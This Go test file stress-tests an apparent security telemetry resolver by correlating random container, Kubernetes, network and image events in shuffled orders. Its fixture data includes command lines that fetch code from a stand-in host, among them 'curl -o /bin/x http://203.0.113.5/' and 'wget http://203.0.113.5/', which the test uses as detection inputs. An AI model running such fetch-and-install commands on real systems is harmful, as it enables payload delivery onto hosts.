package entity

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"net/url"
	"strings"
	"testing"

	"tidewaiter/event"
	"tidewaiter/evidence"
	"tidewaiter/image"
)

// Random sets of events in which everything collides: a few process ids,
// addresses, devices, names and instants, records that contradict each other,
// programs that pose as others. Whatever they mean, every order of delivery
// and every pattern of looks must tell the same, all tables must agree, and
// what is let go must be gone.
func TestRandomWorlds(t *testing.T) {
	worlds := uint64(2000)
	if testing.Short() {
		worlds = 300
	}
	owned, ambiguous, arrivals, named, machines := 0, 0, 0, 0, 0
	for seed := range worlds {
		w := &randomWorld{story: newStory(t), rng: rand.New(rand.NewPCG(seed, 11)), cluster: seed%3 == 1, cloud: seed%3 == 2}
		w.fill(5 + w.rng.IntN(60))
		r := w.tryOrders(seed)
		if t.Failed() {
			t.Fatalf("world %d:\n%s", seed, w)
		}
		c := r.Counts()
		owned += c.Placed
		ambiguous += c.Ambiguous
		for _, id := range r.Subjects() {
			sub, _ := r.Subject(id)
			arrivals += len(sub.Of(evidence.Arrival))
			if sub.Instance != nil {
				machines += len(sub.Of(evidence.Command, evidence.Connection, evidence.Lookup, evidence.Script))
			}
			for _, f := range sub.Of(evidence.Connection) {
				named += len(f.Connection.Domains)
			}
		}
		w.forgetAll(r)
	}
	t.Logf("%d records placed, %d of them on machines, %d ambiguous, %d arrivals, %d names", owned, machines, ambiguous, arrivals, named)
	if n := int(worlds); owned < n || machines < n/4 || ambiguous < n/4 || arrivals < n/4 || named < n/20 {
		t.Error("the worlds are too tame to prove anything")
	}
}

func (w *randomWorld) tryOrders(seed uint64) *Resolver {
	w.t.Helper()
	n := len(w.events)
	order := make([]int, n)
	for i := range order {
		order[i] = i
	}
	r, want := w.deliver("in order", order, func(int) bool { return false })
	for try := range uint64(4) {
		rng := rand.New(rand.NewPCG(seed, 100+try))
		name := fmt.Sprintf("order %d", try)
		other, got := w.deliver(name, rng.Perm(n), func(int) bool { return try > 0 && rng.IntN(4) == 0 })
		w.same(name, got, want)
		if a, b := counts(other), counts(r); a != b {
			w.t.Errorf("%s: counts %s, want %s", name, a, b)
		}
		if a, b := fmt.Sprint(other.Family().Edges()), fmt.Sprint(r.Family().Edges()); a != b {
			w.t.Errorf("%s: edges %s, want %s", name, a, b)
		}
	}
	return r
}

// forgetAll lets everything go, in any order.
func (w *randomWorld) forgetAll(r *Resolver) {
	w.t.Helper()
	for {
		all := r.Subjects()
		if len(all) == 0 {
			break
		}
		r.Forget(all[w.rng.IntN(len(all))])
		checkConsistency(w.t, r)
	}
	letGo(r)
	checkEmpty(w.t, r)
}

// randomWorld makes a random set of events.
type randomWorld struct {
	*story
	rng     *rand.Rand
	cluster bool // its hosts are nodes of a cluster that has pods
	cloud   bool // its hosts are machines of a cloud
}

func (w *randomWorld) String() string {
	var b strings.Builder
	for i, e := range w.events {
		fmt.Fprintf(&b, "%3d %s %12d %s %+v\n", i+1, e.Place, e.Time.At-epoch, e.Body.Kind(), e.Body)
	}
	return b.String()
}

func pick[T any](w *randomWorld, from ...T) T { return from[w.rng.IntN(len(from))] }

// fill adds n random events.
func (w *randomWorld) fill(n int) {
	for range n {
		w.place = pick(w, event.Place{Host: "h"}, event.Place{Host: "h"}, event.Place{Host: "h"}, event.Place{Host: "g"}, event.Place{})
		at := w.when()
		if w.cluster {
			w.place = pick(w, event.Place{Cluster: "c", Host: "h"}, event.Place{Cluster: "c", Host: "h"}, event.Place{Cluster: "c", Host: "g"}, event.Place{Cluster: "c"}, event.Place{Cluster: "d"}, event.Place{})
		}
		if w.cloud {
			w.place = pick(w, event.Place{Account: "a", Host: "h"}, event.Place{Account: "a", Host: "h"}, event.Place{Account: "a", Host: "g"}, event.Place{Account: "a"}, event.Place{Account: "a", Host: "ip-172-17-0-2"})
		}
		switch k := w.rng.IntN(20); {
		case w.cloud && k%3 < 2:
			w.cloudEvent(at)
		case w.cluster && k%2 == 0:
			w.podEvent(at)
		case k < 4:
			w.process(at)
		case k < 5:
			w.call(at)
		case k < 10:
			w.lifeEvent(at)
		case k < 13:
			w.description()
		case k < 15:
			w.traffic(at)
		case k < 19:
			w.imageEvent(at)
		default:
			w.add(-1, event.Inventory, &event.HostDescription{Addrs: []netip.Addr{w.addr()}})
		}
		if w.rng.IntN(4) == 0 && !w.last().Time.IsZero() {
			w.last().Time.Res = pick(w, event.Second, 10*event.Millisecond)
			w.last().Time.At -= w.last().Time.At % w.last().Time.Res
		}
		if w.rng.IntN(8) == 0 {
			w.last().Record = sec(w.when())
		}
	}
}

func (w *randomWorld) when() float64 {
	if w.rng.IntN(3) > 0 {
		return float64(w.rng.IntN(8)) + pick(w, 0, 0, 0.1, 0.25, 0.251)
	}
	return float64(w.rng.IntN(400)) + pick(w, 0, 86_400.0)
}

func (w *randomWorld) id() string {
	return pick(w, containerA, containerA, containerB, containerB, containerA[:12], containerA[:12]+strings.Repeat("9", 52), "free")
}

func (w *randomWorld) pid() int { return 10 + w.rng.IntN(5) }
func (w *randomWorld) addr() netip.Addr {
	return pick(w, ip("172.17.0.2"), ip("::ffff:172.17.0.2"), ip("172.17.0.3"), ip("203.0.113.5"))
}

func (w *randomWorld) process(at float64) {
	args := pick(w, []string{"sh"}, []string{"sh", "-c", "check"}, []string{"check"}, []string{"curl", "-o", "/bin/x", "http://203.0.113.5/"}, []string{"x"},
		[]string{"runc", "exec", w.id()}, []string{"runc", "create", w.id()}, []string{"runc", "run", w.id()}, []string{"runc", "init"},
		[]string{"containerd-shim-runc-v2", "-id", w.id()}, []string{"docker", "run", "-it", "web:1"}, []string{"ctr", "-n", "k8s.io", "images", "import", "x.tar"})
	ppid := w.pid()
	if w.rng.IntN(6) == 0 {
		ppid = 1
	}
	switch w.rng.IntN(8) {
	case 0:
		w.add(at, event.Auditd, &event.FileWrite{PID: w.pid(), PPID: ppid, Path: "/bin/x"})
	case 1:
		w.add(at, event.Auditd, &event.Socket{PID: w.pid(), PPID: ppid, Addr: netip.AddrPortFrom(w.addr(), 80)})
	default:
		w.run(at, w.pid(), ppid, args...).Device = pick(w, "00:27", "00:27", "00:28", "fe:00")
		if w.rng.IntN(8) == 0 {
			w.last().Body.(*event.Process).Container = w.id()
		}
	}
}

// call adds a call of the runtime's API, or something else that tells of a build.
func (w *randomWorld) call(at float64) {
	client, server := netip.AddrPortFrom(w.addr(), 4000), netip.AddrPortFrom(w.addr(), 2375)
	path := pick(w, "/build", "/build", "/grpc", "/containers/create", "/containers/"+containerA+"/start")
	query := pick(w, nil, url.Values{"t": {"web:1"}}, url.Values{"t": {"web:2"}, "remote": {"http://a.example/d"}})
	switch w.rng.IntN(7) {
	case 5: // BuildKit's own call of the runtime, and what it runs
		pid, step := w.pid(), pick(w, "92q72fsrntxitktjm7bsqt88w", "sf6nfe1ezopvoazdytkp3f7xb")
		w.run(at, pid, w.pid(), "/usr/sbin/runc", "--log", "/b/executor/log", "run", "--bundle", "/b/executor/"+step, step)
		w.run(at+0.1, w.pid(), pid, "/bin/sh", "-c", "wget http://203.0.113.5/")
	case 0, 1:
		r := &event.APIRequest{Method: "POST", Path: path, Query: query}
		if path == "/containers/create" && w.rng.IntN(2) == 0 {
			r.Create = &event.ContainerDescription{Image: w.ref(), Command: []string{"sh"}, Risk: event.Risk{Privileged: true}}
		}
		w.add(at, event.Dockerd, r)
	case 2:
		w.add(at, event.Zeek, &event.HTTP{Client: client, Server: server, Method: "POST", URI: "/v1.41" + path + "?" + query.Encode()})
	case 3:
		w.add(at, event.Conntrack, &event.Flow{Protocol: "tcp", Src: client, Dst: server})
	case 4:
		w.add(at, event.Dockerd, &event.BuildStep{ID: "s", Command: []string{"curl", "http://203.0.113.5/"}})
	default:
		w.run(at, w.pid(), w.pid(), pick(w, []string{"docker", "build", "-t", "web:1", "."}, []string{"docker", "-H", "tcp://127.0.0.1:2375", "build", "."}, []string{"buildah", "bud", "."})...)
	}
}

func (w *randomWorld) lifeEvent(at float64) {
	switch w.rng.IntN(8) {
	case 0, 1:
		w.task(at, w.id(), w.pid())
	case 2:
		w.taskExit(at, w.id(), w.pid())
	case 3:
		w.add(at, event.Containerd, &event.Task{Action: pick(w, event.TaskStart, event.TaskCreate, event.TaskExit), Container: w.id(), ExecID: pick(w, "e", "f"), PID: w.pid()})
	case 4, 5:
		w.add(at, event.Docker, &event.Container{
			Action: pick(w, event.ContainerCreate, event.ContainerStart, event.ContainerExit, event.ContainerRemove, event.ContainerUpdate),
			ID:     w.id(), Image: w.ref(), Name: pick(w, "", "n"),
		})
	case 6:
		w.add(at, event.Docker, &event.NetworkAttachment{Container: w.id(), NetworkID: pick(w, "n", "m"), Connected: w.rng.IntN(2) == 0})
	case 7:
		w.add(at, event.Docker, &event.ExecStarted{Container: w.id(), ExecID: "e", Command: pick(w, "", "check", "sh -c check")})
	}
}

func (w *randomWorld) description() {
	b := w.describe(w.id(), pick(w, "n", "m", ""), w.addr().String())
	if w.rng.IntN(2) == 0 {
		b.PID = w.pid()
		b.StartedAt = event.Time{At: sec(w.when()), Res: 1}
		b.CreatedAt = b.StartedAt
	}
	b.HealthCheck = pick(w, nil, []string{"check"}, []string{"sh", "-c", "check"})
	if w.rng.IntN(3) == 0 {
		b.Image, b.ImageID = w.ref(), w.sum()
	}
}

// podRef names one of few pods, by name, by UID, or both.
func (w *randomWorld) podRef() event.ObjectRef {
	return event.ObjectRef{Kind: "Pod", Namespace: "n", Name: pick(w, "web", "web", "db"), UID: pick(w, "", "u1", "u2", "u3")}
}

func (w *randomWorld) spec() *event.PodSpec {
	return pick(w, nil, &event.PodSpec{Containers: []event.ContainerSpec{
		{Name: "a", Kind: event.InitContainer, Image: w.ref()},
		{Name: "b", Kind: event.MainContainer, Image: w.ref(), Probes: [][]string{{"check"}}, PullPolicy: "Always"},
	}})
}

func (w *randomWorld) owner() event.ObjectRef {
	return event.ObjectRef{Kind: pick(w, "ReplicaSet", "Deployment", "Job"), Namespace: "n", Name: pick(w, "web", "web-5b7", "")}
}

func (w *randomWorld) podEvent(at float64) {
	ref := w.podRef()
	switch w.rng.IntN(9) {
	case 0:
		w.add(at, event.KubeAudit, &event.Pod{Verb: pick(w, event.VerbCreate, event.VerbUpdate, event.VerbDelete), Object: ref, Owner: w.owner(), Code: pick(w, 0, 201, 403), Spec: w.spec()})
	case 1:
		w.add(at, event.KubeAudit, &event.Workload{Verb: pick(w, event.VerbCreate, event.VerbUpdate, event.VerbDelete), Object: w.owner(), Owner: w.owner(), Template: w.spec()})
	case 2, 3:
		s := &event.PodStatus{Object: ref, Node: "h", Addrs: []netip.Addr{w.addr()}, HostAddrs: []netip.Addr{ip("172.17.0.3")}}
		s.Containers = []event.ContainerStatus{{Name: pick(w, "a", "b"), ID: w.id(), Image: w.ref(), ImageID: w.sum()}}
		if w.rng.IntN(2) == 0 {
			s.StartedAt = event.Time{At: sec(w.when()), Res: 1}
		}
		w.add(at, event.KubeAudit, s)
	case 4:
		w.add(at, event.KubeEvents, &event.KubeEvent{Object: ref, Container: pick(w, "", "a", "b"), Reason: pick(w, "Pulling", "Pulled", "Created", "Started", "Started", "Killing", "Odd"), Present: w.rng.IntN(2) == 0, Node: pick(w, "h", "h", "g", "")})
		if w.rng.IntN(2) == 0 {
			w.last().Body.(*event.KubeEvent).Image = w.ref()
		}
	case 5:
		w.add(at, event.CRI, &event.Sandbox{Action: event.ContainerCreate, ID: w.id(), Object: ref, Addrs: []netip.Addr{w.addr()}})
	case 6:
		w.add(at, event.CRI, &event.Container{Action: event.ContainerCreate, ID: w.id(), Image: w.ref(), Sandbox: pick(w, "", w.id())})
		w.last().Body.(*event.Container).Labels = pick(w, nil, map[string]string{
			"io.kubernetes.pod.namespace": ref.Namespace, "io.kubernetes.pod.name": ref.Name, "io.kubernetes.pod.uid": ref.UID,
			"io.kubernetes.container.name": pick(w, "a", "b"), "io.cri-containerd.kind": pick(w, "container", "container", "sandbox"),
		})
	case 7:
		of := &event.PodRef{Namespace: ref.Namespace, Pod: ref.Name, UID: ref.UID, Workload: w.owner()}
		src, dst := netip.AddrPortFrom(w.addr(), 4000), netip.AddrPortFrom(w.addr(), 80)
		w.add(at, event.Hubble, pick[event.Body](w, &event.Flow{Src: src, Dst: dst, SrcPod: of, DstNames: pick(w, nil, []string{"a.example"})},
			&event.HTTP{Client: src, Server: dst, Host: "b.example", Of: of}, &event.TLS{Client: src, Server: dst, ServerName: "a.example"},
			&event.DNS{Client: src, Query: "a.example", Addrs: []netip.Addr{w.addr()}, Of: of}))
	case 8:
		w.add(at, event.Tetragon, &event.Process{PID: w.pid(), PPID: w.pid(), Exe: "/bin/sh", Args: []string{"sh"}, AUID: -1, Container: pick(w, "", w.id()),
			Of: &event.PodRef{Namespace: ref.Namespace, Pod: ref.Name, UID: ref.UID}})
	}
	if w.rng.IntN(6) == 0 {
		w.add(at, event.KubeAudit, &event.PodAccess{Action: "exec", Object: w.podRef(), Container: pick(w, "", "b"), Command: []string{"sh"}})
	}
}

func (w *randomWorld) traffic(at float64) {
	if w.rng.IntN(8) == 0 {
		at = -1
	}
	src := netip.AddrPortFrom(w.addr(), 4000)
	if w.rng.IntN(2) == 0 {
		w.add(at, event.Conntrack, &event.Flow{Protocol: "tcp", Src: src, Dst: netip.AddrPortFrom(w.addr(), 80), Via: pick(w, netip.Addr{}, w.addr())})
		return
	}
	if w.rng.IntN(6) == 0 {
		src = netip.AddrPort{}
	}
	w.add(at, event.Zeek, &event.DNS{Client: src, Query: pick(w, "", "a.example", "b.example"), Addrs: []netip.Addr{w.addr(), w.addr()}})
}

func (w *randomWorld) sum() image.Digest { return sum(w.rng.IntN(5)) }

func (w *randomWorld) ref() image.Reference {
	return image.ParseDocker(pick(w, "", "web:1", "web:1", "web:2", "x.example/app:1", "web@"+w.sum().String(), w.sum().String(), w.sum().Short()))
}

func (w *randomWorld) imageEvent(at float64) {
	actions := []event.ImageAction{
		event.ImagePull, event.ImageLoad, event.ImageImport, event.ImageBuild, event.ImageCommit, event.ImageCreate,
		event.ImageUpdate, event.ImageTag, event.ImageUntag, event.ImageDelete, event.ImagePush,
	}
	switch w.rng.IntN(6) {
	case 0:
		w.add(at, event.Dockerd, &event.ImageResolved{Reference: w.ref(), Digest: w.sum()})
	case 1, 2:
		w.stored(at, pick(w, event.ImageCreate, event.ImageUpdate), pick(w, "web:1", "web:2", "x.example/app:1", "web@"+w.sum().String(), w.sum().String()))
	case 3:
		w.inspectImage(w.sum(), pick(w, nil, []string{"web:1"}, []string{"web:1", "web:2"}), pick(w, nil, []string{"web@" + w.sum().String()}, []string{"web@" + w.sum().String(), "y@" + w.sum().String()}))
	default:
		d := image.Digest{}
		if w.rng.IntN(2) == 0 {
			d = w.sum()
		}
		w.add(at, event.Docker, &event.Image{Action: pick(w, actions...), Reference: w.ref(), Digest: d, Container: pick(w, "", w.id())})
	}
}
